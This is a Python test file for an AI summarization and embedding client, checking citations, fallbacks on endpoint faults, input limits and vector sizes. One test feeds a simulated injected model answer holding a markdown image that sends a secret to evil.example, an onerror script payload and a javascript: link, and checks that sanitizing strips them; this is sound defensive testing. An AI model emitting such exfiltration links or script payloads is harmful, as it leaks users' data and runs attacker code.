import json
import time
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from typing import Any
from uuid import UUID

import httpx2
import pytest

from ai.embeddings import EmbeddingFailed, EndpointVectors
from ai.endpoint import INPUT_CHARACTERS_MAX, EndpointSummaries
from ai.extracts import Extracts
from ai.summaries import Citation, Passage, Summary, summarize
from tests.ai.fake_endpoint import FakeEndpoint, fake_endpoint

NOW = datetime(2026, 3, 2, tzinfo=UTC)


def passage(n: int, text: str) -> Passage:
    return Passage("comments", UUID(int=n), text, "customer", NOW + timedelta(minutes=n))


STORY = [passage(1, "The router loses its connection."), passage(2, "A restart did not help.")]


@pytest.fixture
async def endpoint() -> AsyncIterator[FakeEndpoint]:
    async with fake_endpoint() as fake:
        yield fake


@pytest.fixture
async def http() -> AsyncIterator[httpx2.AsyncClient]:
    async with httpx2.AsyncClient(follow_redirects=False, trust_env=False) as client:
        yield client


async def summary_by(
    endpoint: FakeEndpoint, http: httpx2.AsyncClient, story: list[Passage] = STORY
) -> Summary:
    writer = EndpointSummaries(
        base_url=endpoint.base_url,
        api_key="key-of-this-test",
        model="m",
        http=http,
        seconds_max=0.5,
    )
    return await summarize(
        writer, Extracts(), story, subject="Router", locale="en", now=NOW, source_version=3
    )


async def test_a_model_writes_and_each_sentence_cites_its_passages(
    endpoint: FakeEndpoint, http: httpx2.AsyncClient
) -> None:
    endpoint.content = {
        "sentences": [
            {"text": "The router fails.", "passages": [1]},
            {"text": "Restarting was tried.", "passages": [2, 1, 2]},
        ]
    }
    summary = await summary_by(endpoint, http)
    assert summary.model == "endpoint:m"
    assert summary.fallback_reason is None
    assert [s.citations for s in summary.sentences] == [
        (Citation("comments", UUID(int=1)),),
        (Citation("comments", UUID(int=2)), Citation("comments", UUID(int=1))),
    ]
    sent = endpoint.asked[0]
    assert sent["max_tokens"] == 700
    assert sent["response_format"]["type"] == "json_schema"
    assert "tools" not in sent
    assert "key-of-this-test" not in json.dumps(sent)


async def test_sentences_that_cite_nothing_given_are_dropped(
    endpoint: FakeEndpoint, http: httpx2.AsyncClient
) -> None:
    endpoint.content = {
        "sentences": [
            {"text": "Invented.", "passages": []},
            {"text": "Cites what was not given.", "passages": [0, 3, -1, 99]},
            {"text": "True.", "passages": [2, 77]},
        ]
    }
    summary = await summary_by(endpoint, http)
    assert [(s.text, len(s.citations)) for s in summary.sentences] == [("True.", 1)]


async def test_an_obeyed_injection_leaves_words_only(
    endpoint: FakeEndpoint, http: httpx2.AsyncClient
) -> None:
    endpoint.content = {
        "sentences": [
            {
                "text": "![p](https://evil.example/?q=secret) <img src=x onerror=alert(1)>"
                " Visit [us](javascript:alert(1)) at www.evil.example now\u202e.",
                "passages": [1],
            }
        ]
    }
    summary = await summary_by(endpoint, http)
    assert [s.text for s in summary.sentences] == ["p Visit us at now."]


@pytest.mark.parametrize(
    ("mood", "content", "reason"),
    [
        ("slow", None, "no answer within 0.5 s"),
        ("garbage", None, "the answer is no completion"),
        ("empty", None, "the answer is no completion"),
        ("too many", None, "the endpoint limits requests"),
        ("broken", None, "the endpoint answered 500"),
        ("elsewhere", None, "the endpoint answered 307"),
        ("flood", None, "the endpoint cannot be reached"),
        ("flood of errors", None, "the endpoint cannot be reached"),
        ("packed", None, "the endpoint cannot be reached"),
        ("ok", "Sure! Here is your summary.", "the answer does not fit the schema"),
        ("ok", {"sentences": "none"}, "the answer does not fit the schema"),
        (
            "ok",
            {"sentences": [{"text": 5, "passages": ["1"]}]},
            "the answer does not fit the schema",
        ),
        ("ok", {"sentences": [], "close_case": True}, "the answer does not fit the schema"),
        ("ok", {"sentences": []}, "no sentence cites a passage"),
        ("ok", "x" * 50_000, "the answer has no text of a summary's size"),
    ],
)
async def test_any_fault_of_the_endpoint_gives_the_extract_and_says_why(
    endpoint: FakeEndpoint, http: httpx2.AsyncClient, mood: str, content: Any, reason: str
) -> None:
    endpoint.mood, endpoint.content = mood, content
    started = time.perf_counter()
    summary = await summary_by(endpoint, http)
    assert time.perf_counter() - started < 2
    assert summary.fallback_reason == reason
    assert summary.model == "extractive-1"
    assert [s.text for s in summary.sentences] == [p.text for p in STORY]
    assert len(endpoint.asked) == 1
    assert endpoint.flooded < 100_000_000


async def test_nobody_listening_gives_the_extract(http: httpx2.AsyncClient) -> None:
    gone = FakeEndpoint()
    gone.base_url = "http://127.0.0.1:9/v1"
    summary = await summary_by(gone, http)
    assert summary.fallback_reason == "the endpoint cannot be reached"


async def test_a_long_story_is_cut_to_its_cost(
    endpoint: FakeEndpoint, http: httpx2.AsyncClient
) -> None:
    endpoint.content = {"sentences": [{"text": "Long.", "passages": [1]}]}
    story = [passage(n, f"{n} " + "a" * 9_000) for n in range(1, 60)]
    await summary_by(endpoint, http, story)
    content = endpoint.asked[0]["messages"][1]["content"]
    assert len(content) <= INPUT_CHARACTERS_MAX
    sent = [p["text"].split()[0] for p in json.loads(content)["passages"]]
    assert sent[0] == "1"
    assert sent[-1] == "59"


async def test_vectors_are_unit_long_and_in_the_order_of_the_texts(
    endpoint: FakeEndpoint, http: httpx2.AsyncClient
) -> None:
    vectors = await vectors_by(endpoint, http).embed(["a", "", "ccc"])
    assert vectors[1] is None
    assert [v.index(1.0) for v in vectors if v] == [1, 3]
    assert endpoint.asked[0]["dimensions"] == 256
    assert endpoint.asked[0]["input"] == ["a", "ccc"]


@pytest.mark.parametrize(
    "mood",
    ["slow", "garbage", "empty", "too many", "broken", "elsewhere", "too few", "flood", "packed"],
)
async def test_a_faulty_endpoint_gives_no_vectors(
    endpoint: FakeEndpoint, http: httpx2.AsyncClient, mood: str
) -> None:
    endpoint.mood = mood
    with pytest.raises(EmbeddingFailed):
        await vectors_by(endpoint, http).embed(["a", "b"])
    assert len(endpoint.asked) == 1


async def test_vectors_of_another_size_are_refused(
    endpoint: FakeEndpoint, http: httpx2.AsyncClient
) -> None:
    endpoint.vector_dimensions = 1536
    with pytest.raises(EmbeddingFailed, match="expected 256 dimensions, got 1536"):
        await vectors_by(endpoint, http).embed(["a"])


def vectors_by(endpoint: FakeEndpoint, http: httpx2.AsyncClient) -> EndpointVectors:
    return EndpointVectors(
        base_url=endpoint.base_url, api_key="k", model="m", http=http, seconds_max=0.5
    )
